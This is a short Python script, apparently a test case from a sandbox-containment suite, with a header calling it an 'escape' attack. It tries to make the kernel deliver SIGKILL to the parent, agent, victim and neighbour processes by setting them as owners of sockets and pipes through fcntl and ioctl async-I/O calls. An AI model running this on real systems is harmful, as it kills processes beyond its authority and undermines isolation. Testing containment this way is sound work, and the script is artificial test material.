# /// attack
# kind = "escape"
# aim = "have the kernel signal another process as the owner of a file: a kill by another name"
# outcome = "exited"
# ///
import fcntl
import json
import os
import signal
import socket
import struct

given = json.loads(input())
F_SETOWN, F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP, FIOASYNC = 8, 10, 15, 0x8901, 0x8902, 0x5452
for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
    for family in (socket.socketpair, os.pipe):
        ours, theirs = family()
        number = ours if isinstance(ours, int) else ours.fileno()
        for command, argument in (
            (F_SETOWN, pid),
            (F_SETOWN, -pid),
            (F_SETOWN_EX, struct.pack("ii", 1, pid)),
            (F_SETOWN_EX, struct.pack("ii", 0, pid)),
            (F_SETSIG, signal.SIGKILL),
        ):
            try:
                fcntl.fcntl(number, command, argument)
                print("managed fcntl", command, pid)
            except OSError:
                pass
        for request in (FIOSETOWN, SIOCSPGRP, FIOASYNC):
            try:
                fcntl.ioctl(number, request, struct.pack("i", pid))
                print("managed ioctl", request, pid)
            except OSError:
                pass
        try:
            fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        except OSError:
            pass
        if not isinstance(theirs, int):
            theirs.send(b"now input is there, and its owner is signalled")
print("contained")
